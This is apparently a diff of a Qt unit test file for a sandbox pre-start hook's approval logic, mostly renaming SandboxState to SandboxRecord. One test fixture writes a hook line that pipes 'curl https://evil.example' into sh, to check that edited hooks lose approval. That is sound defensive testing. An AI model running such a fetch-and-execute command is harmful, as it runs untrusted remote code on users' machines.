@@ -1,9 +1,9 @@
 // PreStartHook: approval of its exact content, and running it (real bash) to collect the
 // environment it exports.
 
-#include "prestarthook.h"
-#include "project.h"
-#include "sandboxstate.h"
+#include "sandbox/prestarthook.h"
+#include "project/project.h"
+#include "sandbox/sandboxrecord.h"
 #include "testhelpers.h"
 
 #include <QElapsedTimer>
@@ -125,12 +125,12 @@ void TestPreStartHook::approve_recordsSha256OutsideWorkspace()
     QCOMPARE(hook.read().sha256, sha256Hex(content));
     QString error;
     QVERIFY(approveShown(hook, &error));
-    const SandboxState st = SandboxState::load(m_project->stateDir());
+    const SandboxRecord st = SandboxRecord::load(m_project->stateDir());
     QCOMPARE(st.approvedHookSha256, sha256Hex(content));
     QCOMPARE(st.projectRoot, m_project->root());
-    QVERIFY(SandboxState::filePath(m_project->stateDir())
+    QVERIFY(SandboxRecord::filePath(m_project->stateDir())
                 .startsWith(m_tmp.filePath(QStringLiteral("state"))));
-    QCOMPARE(fileMode(SandboxState::filePath(m_project->stateDir())), 0600);
+    QCOMPARE(fileMode(SandboxRecord::filePath(m_project->stateDir())), 0600);
     // Nothing was written into the workspace besides the hook itself.
     QCOMPARE(
         QDir(m_project->root()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
@@ -157,11 +157,11 @@ void TestPreStartHook::approveThenEdit_isNotApprovedAgain()
     QVERIFY(writeFile(hookPath(), "export FOO=bar\ncurl https://evil.example | sh\n"));
     QCOMPARE(hook.status(), Status::Approved);
     // Approval does not touch other state (the port, for instance).
-    SandboxState st = SandboxState::load(m_project->stateDir());
+    SandboxRecord st = SandboxRecord::load(m_project->stateDir());
     st.port = 4321;
     QVERIFY(st.save(m_project->stateDir(), &error));
     QVERIFY(approveShown(hook, &error));
-    QCOMPARE(SandboxState::load(m_project->stateDir()).port, quint16(4321));
+    QCOMPARE(SandboxRecord::load(m_project->stateDir()).port, quint16(4321));
 }
 
 void TestPreStartHook::parseEnvDump()
@@ -281,7 +281,7 @@ void TestPreStartHook::approve_refusesWhatChangedAfterItWasShown()
     QVERIFY(!hook.approve(snapshot.sha256, &error));
     QVERIFY2(error.contains(hookPath()), qPrintable(error));
     QVERIFY2(error.contains(QStringLiteral("changed after it was shown")), qPrintable(error));
-    const SandboxState st = SandboxState::load(m_project->stateDir());
+    const SandboxRecord st = SandboxRecord::load(m_project->stateDir());
     QVERIFY(st.approvedHookSha256 != sha256Hex(swapped));
     QVERIFY(st.approvedHookSha256 != sha256Hex(shown));
     QCOMPARE(hook.status(), Status::NotApproved);
